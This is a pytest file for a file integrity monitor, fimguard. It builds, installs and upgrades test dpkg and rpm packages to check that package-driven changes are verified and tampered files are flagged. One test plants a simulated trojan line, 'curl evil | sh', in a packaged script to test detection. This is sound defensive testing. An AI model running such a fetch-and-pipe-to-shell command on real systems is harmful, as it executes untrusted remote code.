"""Package-aware changes with real package managers (issue 10).

dpkg: small .debs built here with dpkg-deb (a conffile, an executable, a
data file, a symlink; versions 1 and 2) are installed into this machine's
dpkg database under a test-unique name, with every file under
/opt/fimguard-test-<random>/ (nothing existing is touched), and purged at
teardown whatever happens. rpm: packages built with rpmbuild, installed
with `rpm --root` into a scratch root, read through librpm with
package_root. No mocks: fimguard reads the real databases."""

import base64
import hashlib
import hmac
import json
import os
import secrets
import shutil
import subprocess
import time

import pytest

from conftest import sha256_bytes
from mail_double import WebhookDouble
from test_monitor import Monitor, op, status

DPKG_TIMEOUT = 120


def need_root_and(*tools):
    if os.geteuid() != 0:
        pytest.skip("needs root (installs packages)")
    for t in tools:
        if shutil.which(t) is None:
            pytest.skip(f"needs {t}")


def run(cmd, timeout=DPKG_TIMEOUT, **kw):
    p = subprocess.run(cmd, capture_output=True, text=True,
                       timeout=timeout, stdin=subprocess.DEVNULL, **kw)
    assert p.returncode == 0, f"{cmd}: {p.returncode}\n{p.stdout}\n{p.stderr}"
    return p


def dpkg(*args):
    """dpkg, waiting while another one (another test run) holds its lock."""
    deadline = time.time() + DPKG_TIMEOUT
    while True:
        p = subprocess.run(["dpkg", *args], capture_output=True, text=True,
                           timeout=DPKG_TIMEOUT, stdin=subprocess.DEVNULL)
        if p.returncode == 0 or "lock" not in p.stderr or \
                time.time() > deadline:
            return p
        time.sleep(0.5)


def contents(v, tool_mode=0o755, link="data"):
    """One version of the test package: relative path -> (bytes, mode),
    or ("link", target)."""
    return {
        "etc/app.conf": (f"setting={v}\n".encode(), 0o644),
        "bin/tool": (f"#!/bin/sh\necho {v}\n".encode(), tool_mode),
        "share/data": (f"data {v}\n".encode(), 0o644),
        "share/data2": (f"other {v}\n".encode(), 0o644),
        "share/link": ("link", link),
    }


def stage(root, prefix, files):
    for rel, (what, arg) in files.items():
        path = os.path.join(root + prefix, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if what == "link":
            os.symlink(arg, path)
        else:
            with open(path, "wb") as f:
                f.write(what)
            os.chmod(path, arg)


class Deb:
    """A test package in this machine's dpkg database."""

    def __init__(self, workdir):
        self.name = "fimguard-test-" + secrets.token_hex(4)
        self.prefix = "/opt/" + self.name
        self.work = workdir
        assert not os.path.lexists(self.prefix)

    def p(self, rel):
        return os.path.join(self.prefix, rel)

    def build(self, version, files):
        root = os.path.join(self.work, f"deb-{version}")
        os.makedirs(os.path.join(root, "DEBIAN"))
        stage(root, self.prefix, files)
        with open(os.path.join(root, "DEBIAN", "control"), "w") as f:
            f.write(f"Package: {self.name}\nVersion: {version}\n"
                    "Architecture: all\nMaintainer: fimguard tests <t@example.org>\n"
                    "Description: fimguard test package\n")
        with open(os.path.join(root, "DEBIAN", "conffiles"), "w") as f:
            f.write(self.p("etc/app.conf") + "\n")
        with open(os.path.join(root, "DEBIAN", "md5sums"), "w") as f:
            for rel, (what, _) in files.items():
                if what != "link" and not rel.startswith("etc/"):
                    f.write(f"{hashlib.md5(what).hexdigest()}  "
                            f"{self.prefix[1:]}/{rel}\n")
        out = os.path.join(self.work, f"{self.name}_{version}_all.deb")
        run(["dpkg-deb", "--root-owner-group", "-b", root, out])
        return out

    def install(self, deb):
        p = dpkg("-i", "--force-confold", deb)
        assert p.returncode == 0, p.stderr

    def purge(self):
        dpkg("--purge", self.name)
        shutil.rmtree(self.prefix, ignore_errors=True)


@pytest.fixture
def deb(fim):
    need_root_and("dpkg", "dpkg-deb")
    d = Deb(fim.base)
    try:
        yield d
    finally:
        d.purge()


def dpkg_fim(fim, d, extra=""):
    fim.write_config(extra="packages = dpkg\n" + extra)
    fim.rule(paths=d.prefix + "/", exclude="*.dpkg-*")


def pkg_of(ev):
    return (ev.get("fimguard") or {}).get("package")


def changes_by_path(events):
    return {e["file"]["path"]: e for e in events}


# ---- dpkg ---------------------------------------------------------------

def test_dpkg_upgrade_is_verified_approved_and_recorded(fim, deb):
    deb.install(deb.build("1.0-1", contents(1)))
    dpkg_fim(fim, deb)
    fim.init()
    owner = fim.entry(deb.p("bin/tool"))["package"]
    assert owner[:3] == ["dpkg", deb.name, "1.0-1"]
    assert owner[3] == "md5:" + hashlib.md5(b"#!/bin/sh\necho 1\n").hexdigest()
    # the conffile carries the MD5 of dpkg's status, the link no digest
    assert fim.entry(deb.p("etc/app.conf"))["package"][3].startswith("md5:")
    assert fim.entry(deb.p("share/link"))["package"][3] is None
    fim.run("check", "--verify-packages", expect=0)

    deb.install(deb.build("2.0-1", contents(2)))
    _, evs = fim.check_json(expect=1)
    by = changes_by_path(evs)
    changed = [deb.p(r) for r in ("etc/app.conf", "bin/tool", "share/data",
                                  "share/data2")]
    assert sorted(by) == sorted(changed), by.keys()
    for path in changed:
        p = pkg_of(by[path])
        assert p["manager"] == "dpkg" and p["name"] == deb.name, p
        assert p["version"] == "2.0-1" and p["previous_version"] == "1.0-1"
        assert p["verified"] is True, (path, p)
    assert pkg_of(by[deb.p("etc/app.conf")]).get("conffile") is True
    human = fim.check(expect=1).stdout
    assert f"package {deb.name} 1.0-1 -> 2.0-1 (dpkg): 4 files, verified" \
        in human, human

    before = open(fim.baseline_file, "rb").read()
    out = fim.run("approve", "--packages", "--dry-run", expect=0).stdout
    assert "would accept" in out and deb.name in out
    assert open(fim.baseline_file, "rb").read() == before
    fim.run("approve", "--packages", expect=0)
    fim.check(expect=0)
    hist = [h for h in fim.history() if (h.get("package") or {}).get("name")
            == deb.name]
    assert len(hist) == 1, fim.history()
    h = hist[0]
    assert h["package"]["version"] == "2.0-1"
    assert h["package"]["previous_version"] == "1.0-1"
    assert sorted(h["paths"]) == sorted(changed)
    assert fim.entry(deb.p("share/link"))["package"][2] == "2.0-1"
    approved = [e for e in fim.file_events()
                if e["event"]["action"] == "baseline-approved"]
    assert {e["file"]["path"] for e in approved} == set(changed)
    assert all(pkg_of(e)["verified"] for e in approved)


def test_dpkg_hand_edit_and_kept_conffile_stay_for_a_human(fim, deb):
    deb.install(deb.build("1.0-1", contents(1)))
    dpkg_fim(fim, deb)
    fim.init()
    # the administrator edits the conffile before the upgrade: dpkg keeps
    # theirs (--force-confold), so it is not the package's
    with open(deb.p("etc/app.conf"), "a") as f:
        f.write("local=1\n")
    deb.install(deb.build("2.0-1", contents(2)))
    with open(deb.p("share/data"), "ab") as f:      # a hand edit after it
        f.write(b"edited\n")
    _, evs = fim.check_json(expect=1)
    by = changes_by_path(evs)
    for rel in ("etc/app.conf", "share/data"):
        p = pkg_of(by[deb.p(rel)])
        assert p["verified"] is False, (rel, p)
        assert "differs" in p["reason"]
    assert pkg_of(by[deb.p("bin/tool")])["verified"] is True
    out = fim.run("approve", "--packages", expect=0).stdout
    assert "2 changes not verified" in out, out
    _, evs = fim.check_json(expect=1)
    assert sorted(changes_by_path(evs)) == sorted(
        [deb.p("etc/app.conf"), deb.p("share/data")])


def test_dpkg_trojan_before_init_is_a_package_mismatch(fim, deb):
    deb.install(deb.build("1.0-1", contents(1)))
    with open(deb.p("bin/tool"), "wb") as f:
        f.write(b"#!/bin/sh\ncurl evil | sh\n")
    dpkg_fim(fim, deb)
    p = fim.init()
    assert f"package-mismatch {deb.p('bin/tool')}" in p.stderr, p.stderr
    assert "not verified" in p.stdout
    mm = [e for e in fim.file_events()
          if e["event"]["action"] == "package-mismatch"]
    assert [e["file"]["path"] for e in mm] == [deb.p("bin/tool")]
    pk = pkg_of(mm[0])
    assert pk["name"] == deb.name and pk["version"] == "1.0-1"
    assert pk["verified"] is False
    assert pk["digest"] == "md5:" + hashlib.md5(b"#!/bin/sh\necho 1\n").hexdigest()
    assert mm[0]["file"]["hash"]["md5"] == hashlib.md5(
        b"#!/bin/sh\ncurl evil | sh\n").hexdigest()
    # recorded, but not as the package's: not blessed
    assert fim.entry(deb.p("bin/tool"))["package"][3] is None
    fim.check(expect=0)
    out = fim.run("check", "--verify-packages", expect=1).stdout
    assert f"package-mismatch {deb.p('bin/tool')}" in out
    assert "1 package-mismatch" in out
    # approve --packages does not bless it either
    fim.run("approve", "--packages", expect=0)
    fim.run("check", "--verify-packages", expect=1)


def test_dpkg_database_files_go_with_the_transaction(fim, deb):
    # the package's own records in dpkg's database change with the
    # upgrade; nothing vouches for them, approve --packages takes them
    deb.install(deb.build("1.0-1", contents(1)))
    info = [f"/var/lib/dpkg/info/{deb.name}.{x}" for x in ("list", "md5sums")]
    fim.write_config(extra="packages = dpkg\n")
    fim.write_policy(f"[rule pkg]\npaths = {deb.prefix}/\nrecursive = yes\n"
                     f"exclude = *.dpkg-*\n[rule db]\npaths = {' '.join(info)}\n")
    fim.init()
    deb.install(deb.build("2.0-1", contents(2)))
    _, evs = fim.check_json(expect=1)
    by = changes_by_path(evs)
    p = pkg_of(by[info[1]])
    assert p["database"] == "/var/lib/dpkg" and p["verified"] is False, p
    assert "name" not in p
    out = fim.run("approve", "--packages", expect=0).stdout
    assert "of the dpkg database in /var/lib/dpkg" in out, out
    fim.check(expect=0)
    h = [x for x in fim.history() if (x.get("package") or {}).get("database")]
    assert len(h) == 1 and info[1] in h[0]["paths"], fim.history()


def resign(fim, transform):
    """Rewrite baseline.json through transform(lines) and sign it again
    with the state's key (whichever form hmac.key holds it in)."""
    data = open(fim.baseline_file, "rb").read()
    body, last = data[:-1].rsplit(b"\n", 1)
    key = next(k for k in fim.hmac_key_candidates()
               if hmac.new(k, body + b"\n", hashlib.sha256).hexdigest()
               == json.loads(last)["hmac"])
    lines = transform([json.loads(l) for l in body.split(b"\n")])
    body = b"".join(json.dumps(l, separators=(",", ":")).encode() + b"\n"
                    for l in lines)
    mac = hmac.new(key, body, hashlib.sha256).hexdigest()
    with open(fim.baseline_file, "wb") as f:
        f.write(body + json.dumps({"hmac": mac}, separators=(",", ":")).encode()
                + b"\n")


def test_version_1_baseline_reads_as_unowned_and_gains_owners(fim, deb):
    deb.install(deb.build("1.0-1", contents(1)))
    dpkg_fim(fim, deb)
    fim.init()

    def to_v1(lines):
        hdr = lines[0]
        hdr["version"] = 1
        hdr["fields"] = hdr["fields"][:-1]
        return [hdr] + [r[:-1] for r in lines[1:]]
    resign(fim, to_v1)
    fim.check(expect=0)
    fim.run("check", "--verify-packages", expect=0)
    out = fim.run("approve", "--packages", expect=0).stdout
    assert "unchanged" in out
    hdr, _, _ = fim.baseline()
    assert hdr["version"] == 2
    assert fim.entry(deb.p("bin/tool"))["package"][:3] == \
        ["dpkg", deb.name, "1.0-1"]
    fim.check(expect=0)


def test_packages_none_and_errors(fim, deb):
    deb.install(deb.build("1.0-1", contents(1)))
    fim.write_config(extra="packages = none\n")
    fim.rule(paths=deb.prefix + "/")
    fim.init()
    assert "package" not in fim.entry(deb.p("bin/tool"))
    p = fim.run("approve", "--packages", expect=2)
    assert "packages = none" in p.stderr
    # the hook form never fails the package manager
    fim.run("approve", "--packages", "--hook", expect=0)
    fim.run("approve", "--packages", "--all", expect=2)
    fim.run("check", "--dry-run", expect=2)
    fim.write_config(extra=f"packages = rpm\npackage_root = {fim.outside}\n")
    p = fim.run("check", "--verify-packages", expect=2)
    assert "rpm" in p.stderr


def test_monitor_holds_dpkg_changes_until_approve(fim, deb):
    deb.install(deb.build("1.0-1", contents(1)))
    fim.write_config(extra="packages = dpkg\npackage_quiet = 4\n")
    fim.rule(paths=deb.prefix + "/", exclude="*.dpkg-*",
             writers="/usr/bin/dpkg")
    fim.init()
    m = Monitor(fim)
    try:
        deb.install(deb.build("2.0-1", contents(2)))
        m.wait_for(lambda e: e["event"]["action"] == "renamed" and
                   e["file"]["path"] == deb.p("bin/tool"), "dpkg's rename")
        # a non-writer's edit is not held
        rc, err = op("import sys; open(sys.argv[1], 'ab').write(b'x')",
                     deb.p("share/data2"))
        assert rc == 0, err
        ev = m.wait_for(lambda e: e["event"]["action"] == "modified" and
                        e["file"]["path"] == deb.p("share/data2"),
                        "the hand edit")[0]
        assert pkg_of(ev)["verified"] is False
        assert pkg_of(ev)["version"] == "1.0-1"
        # dpkg's writes are held
        assert not [e for e in m.events() if e["event"]["action"] ==
                    "modified" and e["file"]["path"] == deb.p("bin/tool")]
        fim.run("approve", "--packages", expect=0)     # as the hook does
        evs = m.wait_for(lambda e: e["event"]["action"] == "modified" and
                         e["file"]["path"] == deb.p("bin/tool"),
                         "the held change, after the reload")
        p = pkg_of(evs[0])
        assert p["verified"] is True, p
        assert p["version"] == "2.0-1" and p["previous_version"] == "1.0-1"
        assert evs[0]["process"]["executable"] == "/usr/bin/dpkg"
        assert evs[0]["file"]["hash"]["sha256"] == sha256_bytes(
            b"#!/bin/sh\necho 2\n")
        text = fim.run("events", "--format", "text", "--action",
                       "modified", expect=0).stdout
        assert f"[pkg {deb.name} 2.0-1 verified]" in text, text
        # dpkg wrote data2 too, but the hand edit made the file differ:
        # not accepted, sent unverified once package_quiet passed
        evs = m.wait_for(lambda e: e["event"]["action"] == "modified" and
                         e["file"]["path"] == deb.p("share/data2") and
                         "package_quiet" in (pkg_of(e) or {}).get("reason", ""),
                         "the held change nobody approved", timeout=15)
        assert pkg_of(evs[0])["verified"] is False
    finally:
        assert m.stop() == 0


def test_monitor_holds_an_allowed_writers_close_write(fim, deb):
    # the package's own content written in place (open, write, close) by
    # one of the rule's writers: held too, then verified by the approval
    deb.install(deb.build("1.0-1", contents(1)))
    deb.install(deb.build("2.0-1", contents(2)))
    with open(deb.p("bin/tool"), "wb") as f:      # not the package's
        f.write(b"#!/bin/sh\necho 1\n")
    writer = os.path.join(fim.base, "writer")
    shutil.copy("/usr/bin/cp", writer)
    fim.write_config(extra="packages = dpkg\npackage_quiet = 30\n")
    fim.rule(paths=deb.prefix + "/", exclude="*.dpkg-*", writers=writer)
    fim.init()
    m = Monitor(fim)
    try:
        src = os.path.join(fim.base, "deb-2.0-1", deb.prefix[1:], "bin/tool")
        run(["timeout", "10", writer, src, deb.p("bin/tool")])
        # a non-writer's write after it: its modified comes from the same
        # queue, after the one the writer's close would have sent
        rc, err = op("import sys; open(sys.argv[1], 'ab').write(b'x')",
                     deb.p("share/data"))
        assert rc == 0, err
        m.wait_for(lambda e: e["event"]["action"] == "modified" and
                   e["file"]["path"] == deb.p("share/data"), "the edit")
        assert not [e for e in m.events() if e["event"]["action"] ==
                    "modified" and e["file"]["path"] == deb.p("bin/tool")]
        assert status(fim)["held"] == 1       # the operator sees it
        assert "fimguard_package_changes_held 1\n" in fim.run(
            "status", "--format", "prometheus", expect=0).stdout
        fim.run("approve", "--packages", expect=0)
        ev = m.wait_for(lambda e: e["event"]["action"] == "modified" and
                        e["file"]["path"] == deb.p("bin/tool"),
                        "the held change")[0]
        assert pkg_of(ev)["verified"] is True, ev
        assert status(fim)["held"] == 0
        assert ev["process"]["executable"] == writer
    finally:
        assert m.stop() == 0


@pytest.mark.parametrize("send", [False, True])
def test_sinks_skip_verified_package_changes_unless_asked(fim, deb, send):
    deb.install(deb.build("1.0-1", contents(1)))
    hook = WebhookDouble().start()
    m = None
    try:
        fim.write_config(extra="packages = dpkg\n[webhook]\n"
                         f"url = {hook.url}\nactions = modified\n" +
                         ("send_verified = yes\n" if send else ""))
        fim.rule(paths=deb.prefix + "/", exclude="*.dpkg-*",
                 writers="/usr/bin/dpkg")
        fim.init()
        m = Monitor(fim)
        deb.install(deb.build("2.0-1", contents(2)))
        fim.run("approve", "--packages", expect=0)
        m.wait_for(lambda e: e["event"]["action"] == "modified" and
                   (pkg_of(e) or {}).get("verified") is True,
                   "the verified changes")
        rc, err = op("import sys; open(sys.argv[1], 'ab').write(b'x')",
                     deb.p("share/data"))
        assert rc == 0, err

        def sent():
            return [r["json"]["event"]["file"]["path"] for r in hook.requests]
        deadline = time.time() + 15
        while deb.p("share/data") not in sent() and time.time() < deadline:
            time.sleep(0.05)
        assert deb.p("share/data") in sent(), sent()
        if send:
            while deb.p("bin/tool") not in sent() and time.time() < deadline:
                time.sleep(0.05)
            assert deb.p("bin/tool") in sent(), sent()
        else:
            # sent in spool order: the verified ones came first
            assert sent() == [deb.p("share/data")], sent()
    finally:
        if m is not None:
            assert m.stop() == 0
        hook.stop()


# ---- rpm, in a scratch root through librpm ----------------------------------

class Rpm:
    def __init__(self, fim):
        self.fim = fim
        self.root = os.path.join(fim.base, "rpmroot")
        self.name = "fimguard-test-" + secrets.token_hex(4)
        self.prefix = "/opt/" + self.name
        self.top = os.path.join(fim.base, "rpmbuild")
        os.makedirs(self.root)
        run(["rpm", "--root", self.root, "--initdb"])

    def p(self, rel):
        """As on this machine: under the scratch root."""
        return self.root + os.path.join(self.prefix, rel)

    def build(self, version, files):
        stg = os.path.join(self.fim.base, f"stage-{version}")
        stage(stg, self.prefix, files)
        spec = os.path.join(self.fim.base, f"{version}.spec")
        lst = [f"%dir {self.prefix}", f"%dir {self.prefix}/bin",
               f"%dir {self.prefix}/etc", f"%dir {self.prefix}/share",
               f"%config(noreplace) {self.prefix}/etc/app.conf"]
        lst += [f"{self.prefix}/{r}" for r in files if not r.startswith("etc/")]
        with open(spec, "w") as f:
            f.write(f"Name: {self.name}\nVersion: {version}\nRelease: 1\n"
                    "Summary: fimguard test\nLicense: MIT\nBuildArch: noarch\n"
                    "%description\nfimguard test package\n"
                    f"%install\ncp -a {stg}/. %{{buildroot}}/\n"
                    "%files\n%defattr(-,root,root)\n" + "\n".join(lst) + "\n")
        run(["rpmbuild", "--define", f"_topdir {self.top}", "--define",
             "_buildshell /bin/bash", "--define", "__os_install_post %{nil}",
             "--nodeps", "-bb", spec])
        return os.path.join(self.top, "RPMS", "noarch",
                            f"{self.name}-{version}-1.noarch.rpm")

    def install(self, rpm):
        run(["rpm", "--root", self.root, "--nodeps", "-U", rpm])


@pytest.fixture
def rpmpkg(fim):
    need_root_and("rpm", "rpmbuild")
    return Rpm(fim)


def rpm_fim(fim, r):
    fim.write_config(extra=f"packages = rpm\npackage_root = {r.root}\n")
    fim.rule(paths=r.root + r.prefix + "/", exclude="*.rpmnew *.rpmsave")


def test_rpm_upgrade_with_mode_and_link_changes_is_verified(fim, rpmpkg):
    r = rpmpkg
    r.install(r.build("1.0", contents(1)))
    rpm_fim(fim, r)
    fim.init()
    owner = fim.entry(r.p("bin/tool"))["package"]
    assert owner[:3] == ["rpm", r.name, "1.0-1"]
    assert owner[3] == "sha256:" + sha256_bytes(b"#!/bin/sh\necho 1\n")
    fim.run("check", "--verify-packages", expect=0)

    # version 2: new content, a narrower mode, the link moved: rpm records
    # all three, so all three are vouched for
    r.install(r.build("2.0", contents(2, tool_mode=0o750, link="data2")))
    _, evs = fim.check_json(expect=1)
    by = changes_by_path(evs)
    assert set(by) == {r.p(x) for x in ("etc/app.conf", "bin/tool",
                                        "share/data", "share/data2",
                                        "share/link")}, by.keys()
    for path, ev in by.items():
        p = pkg_of(ev)
        assert p["verified"] is True, (path, p)
        assert (p["manager"], p["name"], p["version"],
                p["previous_version"]) == ("rpm", r.name, "2.0-1", "1.0-1")
    assert "mode" in by[r.p("bin/tool")]["fimguard"]["changes"]
    assert by[r.p("share/link")]["fimguard"]["changes"] == ["target"]
    fim.run("approve", "--packages", expect=0)
    fim.check(expect=0)
    h = fim.history()[-1]
    assert h["package"]["name"] == r.name and h["package"]["version"] == "2.0-1"

    # a chmod and a hand edit are not the package's
    os.chmod(r.p("share/data"), 0o666)
    with open(r.p("bin/tool"), "ab") as f:
        f.write(b"# edited\n")
    _, evs = fim.check_json(expect=1)
    by = changes_by_path(evs)
    assert pkg_of(by[r.p("share/data")])["reason"] == \
        "mode differs from the package"
    assert pkg_of(by[r.p("bin/tool")])["verified"] is False
    fim.run("approve", "--packages", expect=0)
    fim.check(expect=1)


def test_rpm_trojan_before_init_is_a_package_mismatch(fim, rpmpkg):
    r = rpmpkg
    r.install(r.build("1.0", contents(1)))
    with open(r.p("share/data"), "wb") as f:
        f.write(b"trojan\n")
    rpm_fim(fim, r)
    p = fim.init()
    assert f"package-mismatch {r.p('share/data')}" in p.stderr
    mm = [e for e in fim.file_events()
          if e["event"]["action"] == "package-mismatch"]
    assert [e["file"]["path"] for e in mm] == [r.p("share/data")]
    assert mm[0]["file"]["hash"]["sha256"] == sha256_bytes(b"trojan\n")
    out = fim.run("check", "--verify-packages", expect=1).stdout
    assert "1 package-mismatch" in out
